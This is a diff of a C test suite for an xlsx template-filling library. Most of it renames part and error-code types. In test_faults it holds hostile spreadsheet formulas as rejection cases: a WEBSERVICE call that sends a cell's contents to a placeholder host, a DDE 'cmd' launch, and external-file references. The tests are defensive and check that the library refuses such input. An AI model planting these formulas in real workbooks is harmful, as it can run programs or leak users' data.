@@ -30,32 +30,32 @@ static const char SHARED[] = "<sst><si><t>head</t></si><si><r><t>{{pla</t></r><r
 #define TEXT(at, text) "<c r=\"" at "\" s=\"3\" t=\"inlineStr\"><is><t>" text "</t></is></c>"
 #define SUM(at, formula) "<c r=\"" at "\"><f>" formula "</f><v>9</v></c>"
 
-static struct office_part parts[8];
+static struct opc_part parts[8];
 static struct office_value values[NITEMS(fields)];
 
 /* Filled, or (STR_NONE) refused; all: its parts. */
 static str
-filled_of(const char *one, const char *two, const char *book, struct office_parts *all)
+filled_of(const char *one, const char *two, const char *book, struct opc_parts *all)
 {
-	struct office_parts    *in = ARENA_NEW(cx.arena, struct office_parts);
+	struct opc_parts    *in = ARENA_NEW(cx.arena, struct opc_parts);
 	struct office_template *t;
 	str                     xlsx;
 
 	ctx_forget(&cx);
 	ensure(in != NULL);
-	parts[0] = (struct office_part){S("[Content_Types].xml"), str_of(TYPES)};
-	parts[1] = (struct office_part){S("_rels/.rels"), str_of(RELS)};
-	parts[2] = (struct office_part){S("xl/workbook.xml"), str_of(book)};
-	parts[3] = (struct office_part){S("xl/_rels/workbook.xml.rels"), str_of(BOOK_RELS)};
-	parts[4] = (struct office_part){S("xl/sharedStrings.xml"), str_of(SHARED)};
-	parts[5] = (struct office_part){S("xl/worksheets/sheet1.xml"), str_of(one)};
-	parts[6] = (struct office_part){S("xl/worksheets/sheet2.xml"), str_of(two)};
-	parts[7] = (struct office_part){S("xl/calcChain.xml"), S("<calcChain/>")};
-	*in = (struct office_parts){parts, NITEMS(parts)};
+	parts[0] = (struct opc_part){S("[Content_Types].xml"), str_of(TYPES)};
+	parts[1] = (struct opc_part){S("_rels/.rels"), str_of(RELS)};
+	parts[2] = (struct opc_part){S("xl/workbook.xml"), str_of(book)};
+	parts[3] = (struct opc_part){S("xl/_rels/workbook.xml.rels"), str_of(BOOK_RELS)};
+	parts[4] = (struct opc_part){S("xl/sharedStrings.xml"), str_of(SHARED)};
+	parts[5] = (struct opc_part){S("xl/worksheets/sheet1.xml"), str_of(one)};
+	parts[6] = (struct opc_part){S("xl/worksheets/sheet2.xml"), str_of(two)};
+	parts[7] = (struct opc_part){S("xl/calcChain.xml"), S("<calcChain/>")};
+	*in = (struct opc_parts){parts, NITEMS(parts)};
 	if (office_read(&cx, in, fields, NITEMS(fields), &t) != OK)
 		return STR_NONE;
 	ok(office_form_of(t) == OFFICE_BOOK, "it is a workbook");
-	if (office_fill(&cx, t, values, &xlsx) != OK || office_unpack(&cx, xlsx, all) != OK)
+	if (office_fill(&cx, t, values, &xlsx) != OK || opc_unpack(&cx, xlsx, all) != OK)
 		return STR_NONE;
 	for (size_t i = 0; i < all->n; i++)
 		if (str_eq(all->part[i].name, S("xl/worksheets/sheet1.xml")))
@@ -64,7 +64,7 @@ filled_of(const char *one, const char *two, const char *book, struct office_part
 }
 
 static str
-part_of(const struct office_parts *all, const char *name)
+part_of(const struct opc_parts *all, const char *name)
 {
 	for (size_t i = 0; i < all->n; i++)
 		if (str_eq(all->part[i].name, str_of(name)))
@@ -92,7 +92,7 @@ test_rows(void)
 	          "<conditionalFormatting sqref=\"B3\"><cfRule><formula>B3&gt;9</formula></cfRule></conditionalFormatting>"
 	          "<dataValidations><dataValidation sqref=\"C3:C4\"><formula1>B3</formula1></dataValidation></dataValidations>"
 	          "<rowBreaks><brk id=\"4\"/></rowBreaks>");
-	struct office_parts all;
+	struct opc_parts all;
 	str                 made = filled_of(one, SHEET("<row r=\"2\">" SUM("A2", "One!B4+One!$B$3:$B$3") "</row>", ""),
 	                                     BOOK("<definedNames><definedName>One!$A$1:$D$4</definedName><definedName>One!$1:$2"
 	                                          "</definedName></definedNames>"), &all);
@@ -136,7 +136,7 @@ test_marks(void)
 	static const char filled_down[] =
 	    SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") "<c r=\"B1\"><f t=\"shared\" ref=\"B1:B2\" si=\"0\">$A1+C$1</f></c></row><row r=\"2\">"
 	          "<c r=\"B2\"><f t=\"shared\" si=\"0\"/></c></row>", "");
-	struct office_parts all;
+	struct opc_parts all;
 	size_t              n = values[UNITS].nrow;
 	str                 made = filled_of(marks, EMPTY, BOOK(""), &all);
 
@@ -163,20 +163,20 @@ test_faults(void)
 	} bad[] = {
 	    {SHEET("<row r=\"7\">" TEXT("C7", "{{bay}}") "</row>", ""), BOOK(""), T_office_unknown, "a field that is none"},
 	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") SUM("B1", "WEBSERVICE(\"http://x\"&amp;A1)") "</row>", ""), BOOK(""),
-	     T_office_formula, "a formula that asks a site"},
-	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") SUM("B1", "cmd|'/c calc'!A1") "</row>", ""), BOOK(""), T_office_formula,
+	     T_workbook_formula, "a formula that asks a site"},
+	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") SUM("B1", "cmd|'/c calc'!A1") "</row>", ""), BOOK(""), T_workbook_formula,
 	     "one that starts a program"},
-	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") SUM("B1", "[1]Sheet1!A1") "</row>", ""), BOOK(""), T_office_formula,
+	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") SUM("B1", "[1]Sheet1!A1") "</row>", ""), BOOK(""), T_workbook_formula,
 	     "one that reads another file"},
 	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") "</row>", ""),
-	     BOOK("<definedNames><definedName>'c:\\[a.xlsx]S'!A1</definedName></definedNames>"), T_office_formula, "a name that does"},
-	    {SHEET("<row>" TEXT("A1", "{{day}}") "</row>", ""), BOOK(""), T_office_no_row, "rows without numbers"},
-	    {SHEET("<row r=\"2\">" TEXT("A2", "{{day}}") "</row><row r=\"1\"/>", ""), BOOK(""), T_office_no_row, "rows in no order"},
+	     BOOK("<definedNames><definedName>'c:\\[a.xlsx]S'!A1</definedName></definedNames>"), T_workbook_formula, "a name that does"},
+	    {SHEET("<row>" TEXT("A1", "{{day}}") "</row>", ""), BOOK(""), T_workbook_no_row, "rows without numbers"},
+	    {SHEET("<row r=\"2\">" TEXT("A2", "{{day}}") "</row><row r=\"1\"/>", ""), BOOK(""), T_workbook_no_row, "rows in no order"},
 	    {SHEET("<row r=\"1\">" TEXT("A1", "{{day}}") "</row>", "<headerFooter><oddHeader>{{day}}</oddHeader></headerFooter>"),
-	     BOOK(""), T_office_sheet_header, "a field in the page's header"},
+	     BOOK(""), T_workbook_sheet_header, "a field in the page's header"},
 	    {SHEET("<row r=\"1\">" TEXT("A1", "day") "</row>", ""), BOOK(""), T_office_no_marks, "no field at all"},
 	};
-	struct office_parts all;
+	struct opc_parts all;
 
 	for (size_t i = 0; i < NITEMS(bad); i++)
 		ok(!filled_of(bad[i].one, EMPTY, bad[i].book, &all).p && cx.why.line[0].text == bad[i].why,
@@ -191,7 +191,7 @@ test_many(void)
 {
 	struct office_row  *row = ARENA_NEWS(cx.arena, 5000, struct office_row);
 	struct office_value was = values[UNITS];
-	struct office_parts all;
+	struct opc_parts all;
 	str                 made;
 
 	ensure(row != NULL);
@@ -210,7 +210,7 @@ static enum err
 starving(uint64_t n)
 {
 	struct ctx              own = {.arena = arena_new((size_t)64 << 20)};
-	struct office_parts     in = {parts, NITEMS(parts)};
+	struct opc_parts     in = {parts, NITEMS(parts)};
 	struct office_template *t;
 	str                     xlsx;
 	enum err                e;
@@ -227,7 +227,7 @@ starving(uint64_t n)
 static void
 test_memory(void)
 {
-	struct office_parts all;
+	struct opc_parts all;
 	uint64_t            n = 0;
 	enum err            e;
 
